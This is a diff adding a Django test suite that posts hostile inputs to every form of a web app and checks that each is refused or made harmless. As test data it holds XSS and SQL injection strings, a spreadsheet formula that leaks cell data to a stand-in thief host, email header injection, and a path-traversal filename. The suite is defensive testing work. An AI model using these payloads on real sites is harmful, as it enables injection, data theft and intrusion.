@@ -1,0 +1,515 @@
+"""Every form there is, and what somebody careless, curious or hostile might put into it.
+
+The world is furnished once, every page is walked, and each form found is posted with each kind of bad input. Whatever a
+form did is undone before the next. Never a 500; what is wrong is said plainly beside its question; what was typed stays;
+what was refused changed nothing.
+"""
+
+import re
+from contextlib import contextmanager
+from copy import deepcopy
+
+import pytest
+from bs4 import BeautifulSoup
+from django.apps import apps
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection, transaction
+from django.test import Client, override_settings
+
+from groups.notices.models import Letter
+from tests import builders
+from tests.cast import Cast
+from tests.house import crawl, world
+
+HUGE = "We said this many times. " * 42_000  # more than 1 MB
+MARKUP = '<script>alert("hello")</script><img src=x onerror=alert(1)> [a link](javascript:alert(1)) **bold**'
+TEXTS = {
+    "unseen": "One\x01\x08\x1b[31m\x7f\x85\u200b\u2028two \u202eOne\u2066 two\u202c\u200f",
+    "nulls": "One\x00two",
+    "four bytes": "\U0001f33b Gr\u00fc\u00dfe \U00010348 \U000e0041 e\u0301\u0301\u0301 &#xD83D; \\ud83d",
+    "markup": MARKUP + " {{ 7 * 7 }}{% debug %}${7*7}%(x)s%s{0}" + "'; DROP TABLE groups_person; -- \" ` \\",
+    "formula": '=HYPERLINK("http://thief.example/?"&A1)',
+    "headers": "Hello\r\nBcc: thief@example.org\r\n\r\nEND:VCALENDAR\r\nDear all",
+    "blank": " \t\u00a0\u3000\r\n ",
+}
+WRONG = ("not-one-of-these", "-1", "99999999999999999999", "\u0661\u0662", "1\x00")
+EXTRA = {
+    "is_site_admin": "on", "is_active": "", "group": "1", "group_id": "2", "by": "1", "said_by": "1", "stage": "ANSWERED",
+    "pk": "1", "id": "1", "organisation": "2", "person": "1", "left_at": "", "published_at": "2026-01-01", "slug": "mine",
+    "__class__": "x", "a[b]": "c", "\U0001f33b": "x", "": "nameless",
+}  # fmt: skip
+JARGON = re.compile(
+    r"This field|Ensure this|Ensure that|Select a valid|Enter a valid|valid choice|not a valid|None\b|[A-Z]\w+Error"
+    r"|null char|constraint|required\.|%\(|violat|List of values|submitted data",
+    re.IGNORECASE,
+)
+NOT_KEPT = ("password", "file", "hidden")
+QUIET_TABLES = {"django_session", "cache", "usersessions_usersession"}
+WRITES = re.compile(r'\s*(?:INSERT (?:OR \w+ )?INTO|UPDATE|DELETE FROM)\s+"(\w+)"', re.IGNORECASE)
+WITHOUT_TOKEN = {"stop"}  # mail programs stop letters by one click, and have no page to take a token from
+
+
+pytestmark = pytest.mark.django_db
+
+
+# --- the world, once ---
+
+
+@pytest.fixture
+def _django_db_helper(site):
+    """pytest-django would begin a transaction for each test; here one holds the world for all of them."""
+    return site
+
+
+@pytest.fixture(scope="module")
+def site(django_db_setup, django_db_blocker):
+    with django_db_blocker.unblock(), transaction.atomic():
+        with override_settings(TEST_MODE=True, CLOCK_AT=builders.NOW.isoformat()):
+            furnished = world.World(Cast(), builders.NOW)
+            found = crawl.walk(furnished.personas, furnished.starts)
+            yield Site(furnished, found)
+        transaction.set_rollback(True)
+
+
+class Site:
+    def __init__(self, furnished, found):
+        self.world, self.found = furnished, found
+        self.forms, self.searches = found.once(), found.once("get")
+        with undone():
+            self.before = everything_kept()
+
+    def changed(self):
+        now = everything_kept()
+        return sorted(table for table in now if now[table] != self.before[table])
+
+
+@contextmanager
+def undone():
+    """Nothing done inside stays."""
+    with transaction.atomic():
+        yield
+        transaction.set_rollback(True)
+
+
+@contextmanager
+def as_it_was(client):
+    """The browser forgets what this one form told it to keep: a new session, or that there is none."""
+    kept = deepcopy(client.cookies)
+    yield
+    client.cookies = kept
+
+
+def everything_kept():
+    """Each table's rows. Sessions and counters of tries are not what people wrote."""
+    kept = {}
+    for model in apps.get_models():
+        if model._meta.db_table not in QUIET_TABLES and model._meta.managed:
+            names = [f.attname for f in model._meta.concrete_fields if f.attname not in ("looked_at", "last_login")]
+            kept[model._meta.db_table] = hash(str(list(model.objects.order_by("pk").values_list(*names))))
+    return kept
+
+
+class Tried:
+    """One form, posted once; what came back, and what it did. `wrong` collects what must not be."""
+
+    def __init__(self, site, form, sent, *, client=None):
+        self.site, self.form, self.sent, self.wrong, self.wrote = site, form, sent, [], set()
+        client = client or form.client
+        client.raise_request_exception = False
+        with as_it_was(client), transaction.atomic(), connection.execute_wrapper(self.watch):
+            self.newest = Letter.objects.order_by("-id").values_list("id", flat=True).first() or 0
+            if form.method == "post":
+                token = {"csrfmiddlewaretoken": "x"} if client is form.client else {}
+                self.answer = client.post(form.action, {**token, **sent})
+            else:
+                self.answer = client.get(form.action, sent)
+            self.status = self.answer.status_code
+            self.refused = self.status == 200
+            if self.status in (301, 302) and self.answer["Location"].startswith("/"):
+                self.next = client.get(self.answer["Location"])
+            else:
+                self.next = self.answer
+        if self.next.status_code >= 500:
+            error = getattr(self.next, "exc_info", None)
+            self.wrong.append(f"{self.next.status_code} {error[0].__name__}: {str(error[1])[:200]}" if error else "500")
+        self.changed = site.changed() if self.wrote - QUIET_TABLES and self.status < 500 else []
+
+    def watch(self, execute, sql, params, many, context):
+        found = WRITES.match(sql)
+        if found:
+            self.wrote.add(found[1])
+        return execute(sql, params, many, context)
+
+    @property
+    def page(self):
+        if not hasattr(self, "_page"):
+            self._page = BeautifulSoup(self.answer.content, "html.parser")
+        return self._page
+
+    def says(self):
+        """The messages beside the questions, by the name of the question."""
+        said = {}
+        for error in self.page.select(".nhsuk-error-message"):
+            group = error.find_parent(class_="nhsuk-form-group")
+            for control in group.select("input, textarea, select") if group else ():
+                said.setdefault(control.get("name"), error.get_text(" ", strip=True))
+        return said
+
+    def check_refusal(self, *expected):
+        """A summary that leads to the questions, plain words beside each, everything typed still there, nothing written."""
+        summary = self.page.select_one(".nhsuk-error-summary")
+        if summary is None:
+            self.wrong.append("refused without saying what is wrong")
+            return
+        for link in summary.select("a[href]"):
+            if not self.page.find(id=link["href"].removeprefix("#")):
+                self.wrong.append(f"the summary leads to {link['href']}, which is not there")
+        title = self.page.title.get_text()
+        if not title.strip().startswith("Error"):
+            self.wrong.append(f"the title says nothing of an error: {title.strip()}")
+        said = self.says()
+        for name in expected:
+            if name not in said:
+                self.wrong.append(f"nothing beside {name}")
+        for words in [*said.values(), *(li.get_text(" ", strip=True) for li in summary.select("li"))]:
+            if JARGON.search(words):
+                self.wrong.append(f"not plain: {words[:120]}")
+        self.check_kept()
+        if self.changed:
+            self.wrong.append(f"refused, but changed {', '.join(self.changed)}")
+
+    def check_kept(self):
+        form = self.page.find("form", attrs={"data-form": self.form.deed}) or self.page
+        shown = {one.name: one for one in crawl.fields_of(form)}
+        for asked in self.form.fields:
+            typed = self.sent.get(asked.name)
+            if asked.kind in NOT_KEPT or typed is None or (asked.options and typed not in asked.options):
+                continue
+            there = shown.get(asked.name)
+            if there is None:
+                self.wrong.append(f"{asked.name} is not asked again")
+            elif letters(there.value) != letters(typed):
+                self.wrong.append(f"{asked.name} was {letters(typed)[:40]!r}, is now {letters(there.value)[:40]!r}")
+
+    def check_harmless(self):
+        """Whatever was taken: no tag of theirs on the next page, no line end in a subject."""
+        answer = self.next
+        if (
+            b"<script>alert" in answer.content
+            or b"<img src=x" in answer.content
+            or b'href="javascript' in answer.content
+        ):
+            self.wrong.append("their markup is on the page")
+        for letter in Letter.objects.filter(id__gt=self.newest):
+            if re.search(r"[\r\n\x00\u2028]", letter.subject + letter.path + letter.name):
+                self.wrong.append(f"a line end in the subject of {letter.stem}")
+            if "<script>alert" in letter.html or "<img src=x" in letter.html or 'href="javascript' in letter.html:
+                self.wrong.append(f"their markup is in {letter.stem}")
+
+
+def letters(typed):
+    """What one can see of it: white space and characters nobody sees may be tidied."""
+    return re.sub(
+        r"[\s\x00-\x20\x7f-\xa0\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufffd\U000e0000-\U000e007f]", "", typed
+    )
+
+
+def report(tried):
+    wrong = sorted({f"{one.form}: {what}" for one in tried for what in one.wrong})
+    assert not wrong, "\n" + "\n".join(wrong)
+
+
+def post_all(site, forms, filled, check, **how):
+    tried = []
+    for form in forms:
+        for sent in filled(form):
+            with undone():
+                one = Tried(site, form, sent, **how)
+                if one.status < 500:
+                    check(one)
+            tried.append(one)
+    return tried
+
+
+def texts_of(form):
+    return [one for one in form.fields if one.kind in crawl.QUIET or one.kind == "textarea"]
+
+
+def refused_or_harmless(one):
+    if one.refused:
+        one.check_refusal()
+    one.check_harmless()
+
+
+# --- the tests ---
+
+
+def test_every_page_that_takes_a_form_was_found_and_no_link_leads_nowhere(site):
+    posts = {one.name for _, one in crawl.addresses() if "POST" in one.callback.door.methods}
+    elsewhere = {"mfa_add_webauthn", "account_logout", "try_letter_again", "demo_sign_in"} - posts
+    assert posts - site.found.views() - elsewhere == set()
+    assert site.found.broken == []
+    assert len(site.forms) > 90
+
+
+def test_every_form_says_which_operation_it_is_and_carries_its_token(site):
+    assert [str(form) for form in site.forms if not form.deed] == []
+
+
+def test_nothing_filled_in(site):
+    def check(one):
+        if one.refused and one.form.fields:
+            one.check_refusal()
+
+    report(post_all(site, site.forms, lambda form: [{}, {f.name: "" for f in form.fields if f.kind != "file"}], check))
+
+
+@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
+def test_odd_words_in_every_question(site, text):
+    def filled(form):
+        if texts_of(form):
+            yield form.filled(**{one.name: text for one in texts_of(form)})
+            free = [
+                f
+                for f in texts_of(form)
+                if f.kind in ("text", "textarea")
+                and not f.mode
+                and crawl.plain_answer(f) in ("Some plain words", f.value)
+            ]
+            if len(free) < len(texts_of(form)):
+                yield form.filled(**{one.name: text for one in free})
+
+    report(post_all(site, site.forms, filled, refused_or_harmless))
+
+
+def test_a_million_letters_in_each_question(site):
+    def filled(form):
+        return [form.filled(**{one.name: HUGE}) for one in texts_of(form) if one.kind != "hidden"]
+
+    def check(one):
+        name = next(name for name, value in one.sent.items() if value is HUGE)
+        asked = next(f for f in one.form.fields if f.name == name)
+        if one.refused:
+            head = one.answer.content[: one.answer.content.find(b"We said this many times. We said")]
+            small = head.decode() + one.answer.content[-20_000:].decode(errors="ignore")
+            if "nhsuk-error-summary" not in small:
+                one.wrong.append("refused without saying what is wrong")
+            if asked.kind not in NOT_KEPT and HUGE.strip().encode() not in one.answer.content:
+                one.wrong.append(f"{name} is not kept")
+        if one.changed and one.status == 200:
+            one.wrong.append(f"refused, but changed {', '.join(one.changed)}")
+
+    report(post_all(site, site.forms, filled, check))
+
+
+def test_more_than_a_page_may_send_is_answered_in_plain_words(site):
+    form = next(form for form in site.forms if form.deed == "say-needs")
+    with undone():
+        one = Tried(site, form, {"access_needs": HUGE * 2, "communication_needs": HUGE * 2})
+        assert one.status in (400, 413)
+        assert "too" in one.page.h1.get_text()
+        assert one.changed == []
+
+
+@pytest.mark.parametrize("value", WRONG)
+def test_answers_of_the_wrong_kind_to_numbers_days_and_choices(site, value):
+    def wrong_ones(form):
+        ends = ("_day", "_month", "_year")
+        return [
+            f
+            for f in form.fields
+            if f.kind in ("select", "radio", "checkbox", "number") or f.mode == "numeric" or f.name.endswith(ends)
+        ]
+
+    def filled(form):
+        names = [f.name for f in wrong_ones(form) if len(f.options) != 1]
+        if names:
+            yield form.filled(**dict.fromkeys(names, value))
+        hidden = form.asks("hidden")
+        if hidden:
+            yield form.filled(**{f.name: value for f in hidden})
+
+    def check(one):
+        if one.refused:
+            one.check_refusal()
+        elif one.changed and one.form.deed in ("post", "plan", "answer", "agree", "verdict", "reply", "check"):
+            hidden = {f.name for f in one.form.asks("hidden")}
+            if not {name for name, said in one.sent.items() if said == value} <= hidden:
+                one.wrong.append(f"took {value!r}")
+
+    report(post_all(site, site.forms, filled, check))
+
+
+@pytest.mark.parametrize(
+    "day",
+    [
+        ("31", "2", "2026"),
+        ("0", "0", "0000"),
+        ("8", "13", "2026"),
+        ("8", "dec", "9999"),
+        ("1", "1", "0001"),
+        ("8", "", "2026"),
+    ],
+)
+def test_days_that_do_not_exist(site, day):
+    def starts(form):
+        return {f.name[:-6] for f in form.fields if f.name.endswith("_month")}
+
+    def filled(form):
+        if starts(form):
+            parts = dict(zip(("day", "month", "year"), day, strict=True))
+            days = {f"{start}_{part}": said for start in starts(form) for part, said in parts.items()}
+            yield form.filled(**days, **({"paused": "on"} if form.deed == "choose" else {}))
+
+    def check(one):
+        if one.refused:
+            one.check_refusal(*(f"{start}_day" for start in starts(one.form)))
+        else:
+            one.wrong.append(f"took the day {day}")
+
+    report(post_all(site, site.forms, filled, check))
+
+
+def test_fields_nobody_asked_for_change_nothing(site):
+    def filled(form):
+        yield form.filled()
+
+    plain = post_all(site, site.forms, filled, lambda one: None)
+    for before in plain:
+        names = {f.name for f in before.form.fields}
+        with undone():
+            after = Tried(site, before.form, before.sent | {k: v for k, v in EXTRA.items() if k not in names})
+        if (after.status, after.changed) != (before.status, before.changed):
+            before.wrong.append(
+                f"with more fields {after.status} {after.changed}, without {before.status} {before.changed}"
+            )
+    report(plain)
+
+
+def test_a_form_without_its_token_is_refused_and_says_what_to_do(site):
+    careful = {}
+
+    def guarded(form):
+        if form.who not in careful:
+            careful[form.who] = Client(enforce_csrf_checks=True)
+            careful[form.who].cookies = form.client.cookies
+        return careful[form.who]
+
+    tried = []
+    for form in site.forms:
+        if form.deed in WITHOUT_TOKEN:
+            continue
+        with undone():
+            one = Tried(site, form, form.filled(), client=guarded(form))
+            if one.status != 403 or "Go back" not in one.page.get_text():
+                one.wrong.append(f"without its token: {one.status}")
+            if one.changed:
+                one.wrong.append(f"without its token it changed {one.changed}")
+        tried.append(one)
+    report(tried)
+
+
+ODD_FILES = {
+    "nothing": (),
+    "empty": ("empty.csv", b""),
+    "words": "just words",
+    "bytes": ("picture.xlsx", bytes(range(256)) * 50),
+    "half a workbook": ("half.xlsx", b"PK\x03\x04" + bytes(500)),
+    "nulls": ("nulls.csv", b"We said\x00,We did\n\x00\x00,\x00\n"),
+    "odd name": ("../../etc/\u202epasswd\x00\r\nx: y.csv", b"We said,We did\n=1+1,@x\n"),
+    "one line of a megabyte": ("long.csv", b"a" * 1_000_000 + b",b\n"),
+    "many columns": ("wide.csv", b"a," * 40_000 + b"\n" + b"b," * 40_000),
+    "not text": ("utf.csv", b"\xff\xfe\x00\xd8\x00\xd8,\xff\n"),
+}
+
+
+@pytest.mark.parametrize("odd", ODD_FILES.values(), ids=ODD_FILES.keys())
+def test_odd_files(site, odd):
+    def filled(form):
+        for one in form.asks("file"):
+            yield form.filled(**{one.name: SimpleUploadedFile(*odd) if isinstance(odd, tuple) and odd else odd or ""})
+
+    tried = post_all(site, site.forms, filled, refused_or_harmless)
+    assert tried
+    report(tried)
+
+
+@pytest.mark.parametrize("text", [*TEXTS.values(), *WRONG, "x" * 1_500])
+def test_odd_words_in_every_search_and_address(site, text):
+    def filled(form):
+        yield {one.name: text for one in form.fields}
+
+    tried = post_all(site, site.searches, filled, lambda one: one.check_harmless())
+    pages = {path.partition("?")[0]: who for who, path in site.found.pages if "page=" in path or "show=" in path}
+    assert tried and pages
+    for path, who in pages.items():
+        client = site.world.personas[who]
+        client.raise_request_exception = False
+        for name in ("page", "show", "topic", "answer", "next"):
+            with undone():
+                assert client.get(path, {name: text}).status_code in (200, 302, 404), (path, name)
+    report(tried)
+
+
+def test_numbers_no_database_holds_in_an_address_are_pages_that_do_not_exist(site):
+    slug, wrong = site.world.cast.group.slug, []
+    for number in ("0", "99999999999999999999", "9" * 400):
+        for route, one in crawl.addresses():
+            if "<int:" in route and "GET" in one.callback.door.methods:
+                path = "/" + re.sub(r"<int:\w+>", number, route.replace("<slug:slug>", slug))
+                for who in ("farah", "ada", "sam"):
+                    client = site.world.personas[who]
+                    client.raise_request_exception = False
+                    with undone():
+                        status = client.get(path).status_code
+                    if status not in (404, 403, 302):
+                        wrong.append(f"{path[:80]} as {who}: {status}")
+    assert wrong == []
+
+
+# --- the harness itself goes red ---
+
+
+def test_a_form_that_breaks_loses_words_or_speaks_jargon_is_seen(site, monkeypatch):
+    from feedback.drafts import views
+
+    form = next(form for form in site.forms if form.deed == "post")
+
+    def outcome(text=""):
+        with undone():
+            one = Tried(site, form, form.filled(words=text))
+            if one.refused:
+                one.check_refusal("words")
+            return one.wrong
+
+    assert outcome() == []
+    real = views.forms.SaySomething
+
+    class Forgetful(real):
+        def __init__(self, *args, **kwargs):
+            super().__init__(*args, **kwargs)
+            self.fields["words"].error_messages["required"] = "This field is required."
+            if self.is_bound:
+                self.data = {**self.data.dict(), "why_it_matters": ""}
+
+    monkeypatch.setattr(views.forms, "SaySomething", Forgetful)
+    seen = " ".join(outcome())
+    assert "not plain: This field is required." in seen and "why_it_matters was" in seen
+    monkeypatch.setattr(views.forms, "SaySomething", lambda *args, **kwargs: 1 / 0)
+    assert outcome()[0].startswith("500 ZeroDivisionError")
+
+
+def test_a_refusal_that_wrote_something_is_seen(site, monkeypatch):
+    from feedback.drafts import views
+
+    class Writes(views.forms.SaySomething):
+        def is_valid(self):
+            builders.person("Somebody who was written by mistake")
+            return super().is_valid()
+
+    monkeypatch.setattr(views.forms, "SaySomething", Writes)
+    form = next(form for form in site.forms if form.deed == "post")
+    with undone():
+        one = Tried(site, form, form.filled(words=""))
+        one.check_refusal("words")
+    assert one.wrong == ["refused, but changed groups_person"]
